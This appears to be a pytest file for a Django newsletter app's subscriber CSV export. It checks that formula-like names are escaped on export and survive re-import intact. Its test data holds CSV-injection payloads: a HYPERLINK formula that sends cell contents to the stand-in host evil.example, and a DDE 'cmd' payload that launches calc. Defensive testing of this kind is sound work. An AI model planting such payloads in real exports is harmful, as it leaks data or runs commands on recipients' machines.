"""Row 18: a cell that a spreadsheet would compute is marked in exports, and is what it was after coming back."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from newsletter.subscribers.models import ConsentRecord, Subscriber
from tests.factories import make_newsletter, make_subscriber
from tests.subscribers.importing.lists import bring_in

pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=1+1", "''+1", " =1",
    "Ann = Bob",
]  # fmt: skip


def exported(*options: str) -> str:
    output = io.StringIO()
    call_command("export_subscribers", *options, stdout=output)
    return output.getvalue()


@pytest.mark.parametrize("name", FORMULAS)
def test_name_that_is_a_formula_is_text_in_the_export_and_itself_after_coming_back(name: str) -> None:
    make_newsletter()
    make_subscriber(email="=1+1@example.org", name=name.strip())
    text = exported()
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
    ConsentRecord.objects.all()._raw_delete("default")
    Subscriber.objects.all().delete()

    bring_in(text)

    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert Subscriber.objects.values_list("email", "name").get() == ("=1+1@example.org", name.strip())


def test_exact_export_is_for_machines_and_marks_nothing() -> None:
    make_subscriber(name="=1+1")

    (row,) = csv.DictReader(io.StringIO(exported("--raw")))

    assert row["name"] == "=1+1"
